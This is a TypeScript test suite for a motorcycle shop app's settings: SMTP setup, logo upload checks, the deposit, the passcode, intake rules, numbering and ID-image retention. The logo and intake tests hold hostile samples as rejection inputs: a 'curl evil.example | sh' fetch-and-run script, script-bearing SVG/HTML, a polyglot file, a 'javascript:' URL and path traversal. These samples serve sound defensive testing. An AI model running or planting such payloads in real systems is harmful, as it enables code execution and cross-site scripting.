import { once } from 'node:events';
import type { AddressInfo } from 'node:net';
import type { Outputs } from '@kickstand/api';
import { SECTIONS } from '@kickstand/domain/settings';
import { eq } from 'drizzle-orm';
import { SMTPServer, type SMTPServerOptions } from 'smtp-server';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { auditLog } from '../audit/audit.table.ts';
import { SYSTEM } from '../audit/index.ts';
import { files } from '../files/files.table.ts';
import { sweepFiles } from '../files/index.ts';
import { drawing, jpeg } from '../files/testing/pictures.ts';
import { upload } from '../files/testing/upload.ts';
import { enqueueMail } from '../mail/index.ts';
import { mailOutbox } from '../mail/mail.table.ts';
import { issueInvoice } from '../payments/index.ts';
import { DAY } from '../platform/clock.ts';
import { completeForm, submittedForm, takeDeposit } from '../testing/intakes.ts';
import { newOrder } from '../testing/orders.ts';
import { signedInAs } from '../testing/people.ts';
import {
  OWNER,
  openTestShop,
  setUpAndSignIn,
  type TestBrowser,
  type TestShop,
  testShopOn,
} from '../testing/test-shop.ts';
import { eraseIdImages, orderMoney } from '../workorders/index.ts';
import { workOrders } from '../workorders/workorders.table.ts';
import { settingsSections } from './settings.table.ts';

let shop: TestShop;
let owner: TestBrowser;

beforeAll(async () => {
  shop = await openTestShop();
});
beforeEach(async () => {
  await shop.reset();
  owner = await setUpAndSignIn(shop);
});
afterAll(() => shop.close());

type Mail = Outputs['settings']['mail'];
type Tried = Outputs['settings']['testMail'];

async function isStored(path: string): Promise<boolean> {
  const file = await shop.files.store.get(path);
  file?.body.destroy();
  return file !== null;
}

const auditText = async () => JSON.stringify(await shop.db.select().from(auditLog));

describe('the mail server', () => {
  const PASSWORD = 'smtp-secret-of-the-shop';
  let smtp: SMTPServer;
  let received: string[];

  async function listen(options: SMTPServerOptions = {}): Promise<number> {
    received = [];
    smtp = new SMTPServer({
      authOptional: true,
      allowInsecureAuth: true,
      disabledCommands: ['STARTTLS'],
      onAuth: ({ username, password }, _session, done) =>
        username === 'service' && password === PASSWORD
          ? done(null, { user: username })
          : done(Object.assign(new Error('5.7.8 Bad credentials for this box'), { responseCode: 535 })),
      onData: (stream, _session, done) => {
        let text = '';
        stream.on('data', (chunk) => {
          text += chunk;
        });
        stream.on('end', () => {
          received.push(text);
          done(null, 'queued as 4F2C');
        });
      },
      ...options,
    });
    smtp.listen(0, '127.0.0.1');
    await once(smtp.server, 'listening');
    return (smtp.server.address() as AddressInfo).port;
  }
  afterEach(async () => {
    await new Promise<void>((resolve) => (smtp ? smtp.close(resolve) : resolve()));
  });

  const settings = (port: number, change: object = {}) => ({
    ...SECTIONS.mail.start,
    host: '127.0.0.1',
    port,
    security: 'none',
    user: 'service',
    from: 'Ironbound Moto <service@ironbound.test>',
    password: PASSWORD,
    revision: 0,
    ...change,
  });
  const save = (port: number, change: object = {}) =>
    owner.call<Mail>('settings/updateMail', settings(port, change));
  const test = () => owner.call<Tried>('settings/testMail', { to: 'someone@mail.test' });

  it('SET-01 is used from the next mail on, without a restart; its password never comes back', async () => {
    const port = await listen();
    expect((await test()).code).toBe('MAIL_NOT_CONFIGURED');
    const id = await enqueueMail(shop, shop.db, {
      kind: 'confirm_address',
      to: 'ana@mail.test',
      language: 'en',
      data: { firstName: 'Ana', link: 'http://localhost:3000/x' },
    });
    const saved = await save(port);
    expect(saved.value).toMatchObject({
      passwordSet: true,
      configured: true,
      host: '127.0.0.1',
      revision: 1,
    });
    const answers = [saved.value, (await owner.call('settings/mail')).value];
    expect(JSON.stringify(answers)).not.toContain(PASSWORD);
    expect(await auditText()).not.toContain(PASSWORD);
    const [row] = await shop.db.select().from(settingsSections).where(eq(settingsSections.id, 'mail'));
    expect(row?.sealed).toBeTruthy();
    expect(JSON.stringify(row)).not.toContain(PASSWORD);

    expect((await test()).value).toMatchObject({
      sent: true,
      host: '127.0.0.1',
      words: expect.stringContaining('4F2C'),
    });
    expect(received.join()).toMatch(/This is a test email/);
    // the waiting mail is sent automatically, or was already sent
    await expect
      .poll(async () => (await shop.db.select().from(mailOutbox).where(eq(mailOutbox.id, id)))[0]?.status, {
        timeout: 8000,
      })
      .toBe('sent');
    expect(
      (await owner.call<{ settings: object; mailConfigured: boolean }>('intake/setting')).value,
    ).toMatchObject({
      mailConfigured: true,
    });
  });

  it('SET-01 shows the server’s message and the failed step when a test fails', async () => {
    const port = await listen({
      onRcptTo: (_address, _session, done) =>
        done(Object.assign(new Error('5.1.1 No such mailbox here'), { responseCode: 550 })),
    });
    await save(port);
    expect((await test()).value).toMatchObject({
      sent: false,
      step: 'RECIPIENT',
      words: expect.stringContaining('No such mailbox here'),
    });
    await save(port, { password: 'wrong', revision: 1 });
    expect((await test()).value).toMatchObject({
      sent: false,
      step: 'LOGIN',
      words: expect.stringContaining('Bad credentials for this box'),
    });
    await save(9, { revision: 2 });
    expect((await test()).value).toMatchObject({ sent: false, step: 'CONNECT' });
    await save(port, { security: 'starttls', revision: 3 });
    expect((await test()).value).toMatchObject({ sent: false, step: 'TLS' });
    const tested = await shop.db.select().from(auditLog).where(eq(auditLog.action, 'settings.mail.tested'));
    expect(tested.map(({ after }) => (after as { step: string }).step).sort()).toEqual([
      'CONNECT',
      'LOGIN',
      'RECIPIENT',
      'TLS',
    ]);
  });

  it('EML-05 tries the fallback sender in a test, too', async () => {
    const port = await listen({
      onMailFrom: ({ address }, _session, done) =>
        done(
          address.startsWith('service')
            ? Object.assign(new Error('domain not verified'), { responseCode: 550 })
            : null,
        ),
    });
    await save(port);
    expect((await test()).value).toMatchObject({ sent: false, step: 'SENDER' });
    await save(port, { password: '', fallbackFrom: 'shop@host.test', revision: 1 });
    expect((await test()).value).toMatchObject({ sent: true, usedFallback: true });
  });

  it('SET-01 asks for the password again for another server, and keeps it for another sender', async () => {
    const port = await listen();
    await save(port);
    expect((await save(port, { password: '', from: 'new@ironbound.test', revision: 1 })).value).toMatchObject(
      {
        passwordSet: true,
        from: 'new@ironbound.test',
      },
    );
    const moved = await save(port, { host: 'localhost', password: '', revision: 2 });
    expect(moved.code).toBe('MAIL_PASSWORD_NEEDED');
    expect((await save(port, { from: '', password: '', revision: 2 })).code).toBe('MAIL_SENDER_NEEDED');
    expect((await save(port, { revision: 0 })).code).toBe('STALE');
    expect((await save(port, { user: '', password: '', revision: 2 })).value).toMatchObject({
      passwordSet: false,
    });
  });

  it('SET-01 shows what the environment sets, and does not overwrite it', async () => {
    const port = await listen();
    const set = await testShopOn(shop.database, {
      SMTP_URL: `smtp://box:hidden-word@127.0.0.1:${port}`,
      MAIL_FROM: 'env@ironbound.test',
    });
    const browser = set.browser();
    await browser.call('auth/signIn', { email: OWNER.email, password: OWNER.password });
    const shown = await browser.call<Mail>('settings/mail');
    expect(shown.value).toMatchObject({
      locked: { server: true, from: true, fallbackFrom: false },
      ...{ host: '127.0.0.1', port, user: 'box', from: 'env@ironbound.test', passwordSet: true },
    });
    expect(JSON.stringify(shown.value)).not.toContain('hidden-word');
    const changed = await browser.call<Mail>(
      'settings/updateMail',
      settings(25, {
        host: 'smtp.evil.example',
        from: 'x@y.test',
        fallbackFrom: 'spare@host.test',
        password: '',
      }),
    );
    expect(changed.value).toMatchObject({
      ...{ host: '127.0.0.1', from: 'env@ironbound.test', fallbackFrom: 'spare@host.test' },
    });
    await set.close();
  });
});

describe('the logo', () => {
  const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
  const HTML = Buffer.from('<!doctype html><script>alert(1)</script>');
  const SCRIPT = Buffer.from('#!/bin/sh\ncurl evil.example | sh\n');

  it('SET-01 is redrawn, shown to customers, replaced and removed; the old one is swept', async () => {
    const first = await upload(owner, 'logos', await drawing());
    expect(first.status).toBe(200);
    expect(await owner.call('settings/setLogo', { path: first.file.path, revision: 0 })).toMatchObject({
      value: { url: expect.stringContaining(first.file.path), revision: 1 },
    });
    const second = await upload(owner, 'logos', await jpeg(1600, 800));
    expect(second.file).toMatchObject({ width: 800, height: 400, path: expect.stringMatching(/\.png$/) });
    expect((await owner.call('settings/setLogo', { path: second.file.path, revision: 0 })).code).toBe(
      'STALE',
    );
    await owner.call('settings/setLogo', { path: second.file.path, revision: 1 });
    await sweepFiles(shop);
    expect(await isStored(first.file.path)).toBe(false);

    const id = await submittedForm(shop, owner);
    const shared = (await owner.call<{ url: string }>('intake/share', { id })).value.url.split('/').at(-1);
    const view = await shop.browser().call<Outputs['intake']['view']>('intake/view', { id: shared });
    const { logoUrl } = view.value.shop;
    expect(logoUrl).toContain(second.file.path);
    const picture = await shop.browser().request({ method: 'GET', url: logoUrl ?? '' });
    expect(picture.statusCode).toBe(200);
    expect(picture.headers['content-type']).toBe('image/png');

    expect((await owner.call('settings/setLogo', { path: null, revision: 2 })).value).toMatchObject({
      url: null,
    });
  });

  it('SET-01 that is a script, a drawing that runs or two files in one is refused, and nothing changes', async () => {
    const good = await upload(owner, 'logos', await drawing());
    await owner.call('settings/setLogo', { path: good.file.path, revision: 0 });
    const bad = [
      SVG,
      HTML,
      SCRIPT,
      Buffer.concat([Buffer.from('GIF89a/*'), HTML]),
      Buffer.concat([await drawing(), HTML]),
      Buffer.concat([await jpeg(), HTML]),
    ];
    for (const bytes of bad) expect((await upload(owner, 'logos', bytes)).code).toBe('NOT_AN_IMAGE');
    const photo = await upload(owner, 'bike-photos', await jpeg());
    for (const path of [photo.file.path, 'logos/../x.png', 'https://evil.example/logo.png'])
      expect((await owner.call('settings/setLogo', { path, revision: 1 })).code).toBe('NOT_FOUND');
    expect((await owner.call('settings/logo')).value).toMatchObject({
      url: expect.stringContaining(good.file.path),
      revision: 1,
    });
    const technician = await signedInAs(shop, 'technician');
    expect((await upload(technician, 'logos', await drawing())).code).toBe('FORBIDDEN');
  });
});

describe('the deposit', () => {
  it('DEP-01 is one setting, for the form and for what everything declined costs', async () => {
    expect((await owner.call('intake/setting')).value).toMatchObject({ depositCents: 10_000 });
    const setting = (await owner.call<object>('workorders/setting')).value;
    await owner.call('workorders/updateSetting', { ...setting, depositCents: 15_000 });
    const intake = await owner.call<Outputs['intake']['setting']>('intake/setting');
    expect(intake.value.depositCents).toBe(15_000);
    const id = crypto.randomUUID();
    const empty = { customerEmail: '', customerPhone: '', vin: '', mileage: '', concerns: '', notes: '' };
    const story = { complaint: '', cause: '', correction: '' };
    const who = { customerName: 'Ana Ruiz', customerLanguage: 'en', bikeInfo: '2019 Honda CB500F' };
    const facts = { ...empty, ...story, ...who };
    const made = await owner.call('workorders/create', { id, facts, technicianId: null });
    const [order] = await shop.db.select().from(workOrders).where(eq(workOrders.id, id));
    expect({ code: made.code, fee: order?.diagnosticFeeCents }).toEqual({ code: null, fee: 15_000 });
    expect((await owner.call('workorders/updateSetting', { ...setting, depositCents: 0 })).code).toBe(
      'BAD_REQUEST',
    );
  });
});

describe('the admin passcode', () => {
  const authorize = (passcode: string) =>
    owner.call('intake/authorize', { formId: crypto.randomUUID(), passcode });

  it('SET-01 requires the person’s password to change; the old one stops working', async () => {
    const wrong = { password: 'not-my-password', passcode: 'BRAND-NEW' };
    expect((await owner.call('settings/changePasscode', wrong)).code).toBe('INVALID_CREDENTIALS');
    const short = { password: OWNER.password, passcode: '12345' };
    expect((await owner.call('settings/changePasscode', short)).code).toBe('BAD_REQUEST');
    const right = { password: OWNER.password, passcode: ' Brand-New ' };
    expect((await owner.call('settings/changePasscode', right)).value).toEqual({ changed: true });
    expect((await authorize('K7M2QX')).code).toBe('PASSCODE_WRONG');
    expect((await authorize('brand-new')).status).toBe(200);
    expect((await auditText()).toLowerCase()).not.toContain('brand-new');
    const head = await signedInAs(shop, 'head_technician');
    expect((await head.call('settings/changePasscode', right)).code).toBe('FORBIDDEN');
  });
});

describe('what an intake asks for', () => {
  it('SET-01 INT-13 applies to the next form, and its history site must contain the VIN and use https', async () => {
    const intake = { ...SECTIONS.intake.start, idRequired: true, revision: 0 };
    const site = { ...intake, historyUrl: 'javascript:alert(1)//{vin}' };
    expect((await owner.call('settings/updateIntake', site)).code).toBe('BAD_REQUEST');
    await owner.call('settings/updateIntake', { ...intake, historyUrl: 'https://history.test/{vin}' });
    expect((await owner.call('intake/setting')).value).toMatchObject({
      settings: { idRequired: true, historyUrl: 'https://history.test/{vin}' },
    });
    expect((await owner.call('settings/updateIntake', intake)).code).toBe('STALE');
    const id = crypto.randomUUID();
    await takeDeposit(owner, id);
    const form = await completeForm(shop, owner);
    const refused = await owner.call('intake/submit', { id, form: { ...form, idScan: null } });
    expect(refused).toMatchObject({ code: 'INCOMPLETE', data: { issues: [{ field: 'idScan' }] } });
  });
});

describe('numbers', () => {
  it('SET-01 of forms and orders only go up; of invoices only the first can be chosen', async () => {
    const numberings = async () =>
      Object.fromEntries(
        (await owner.call<Outputs['settings']['numberings']>('settings/numberings')).value.map((one) => [
          one.kind,
          one,
        ]),
      );
    const raise = (kind: string, next: number) => owner.call('settings/raiseNumber', { kind, next });
    const next = (await numberings()).intake?.next ?? 0;
    expect((await raise('intake', next + 1000)).value).toMatchObject({ next: next + 1000 });
    const id = await submittedForm(shop, owner);
    expect((await owner.call('intake/find', { id })).value).toMatchObject({ number: next + 1000 });
    expect((await raise('intake', next + 1000)).code).toBe('NUMBER_USED');
    expect((await raise('intake', next + 9_000_000)).code).toBe('NUMBER_TOO_FAR');

    expect((await numberings()).invoice).toMatchObject({ next: 1, open: true });
    await raise('invoice', 5001);
    expect((await raise('invoice', 4001)).value).toMatchObject({ next: 4001, open: true });
    const money = await orderMoney(shop.db, (await newOrder(shop, owner)).id, shop.clock.now());
    if (!money) throw new Error('the order has no money');
    const issued = await shop.db.transaction((tx) => issueInvoice(tx, shop.clock, SYSTEM, money));
    expect(issued.number).toBe(4001);
    expect((await raise('invoice', 9000)).code).toBe('NUMBERING_FIXED');
    expect((await numberings()).invoice).toEqual({ kind: 'invoice', last: 4001, next: 4002, open: false });
  });
});

describe('ID images', () => {
  it('INT-13 SET-01 are deleted the set number of days after their order was closed, never before, and the audit log says so', async () => {
    const id = crypto.randomUUID();
    await takeDeposit(owner, id);
    const scan = await upload(owner, 'id-images', await jpeg());
    const form = { ...(await completeForm(shop, owner)), idScan: scan.file.path };
    expect((await owner.call('intake/submit', { id, form })).status).toBe(200);
    const { orderId } = (await owner.call<{ orderId: string }>('intake/convert', { id })).value;
    await owner.call('settings/updateRetention', { idImageDays: 30, revision: 0 });

    const sweep = async () => {
      await eraseIdImages(shop);
      await sweepFiles(shop);
    };
    const isThere = () => isStored(scan.file.path);
    shop.clock.advance(400 * DAY);
    await sweep();
    expect(await isThere()).toBe(true);

    // as closing would leave it; closing itself is tested elsewhere
    await shop.db.update(workOrders).set({ closedAt: shop.clock.now() }).where(eq(workOrders.id, orderId));
    shop.clock.advance(29 * DAY);
    await sweep();
    expect(await isThere()).toBe(true);
    shop.clock.advance(2 * DAY);
    await sweep();
    expect(await isThere()).toBe(false);
    const [row] = await shop.db.select().from(files).where(eq(files.path, scan.file.path));
    expect(row?.erasedAt).toBeTruthy();
    const removed = await shop.db.select().from(auditLog).where(eq(auditLog.action, 'files.file.removed'));
    expect(removed).toMatchObject([{ before: { bucket: 'id-images', recordId: id } }]);
    shop.clock.advance(-431 * DAY);
    expect((await owner.call('intake/find', { id })).value).toMatchObject({
      hasIdScan: true,
      idScanUrl: null,
      idScanErasedAt: row?.removedAt?.toISOString(),
    });
  });
});
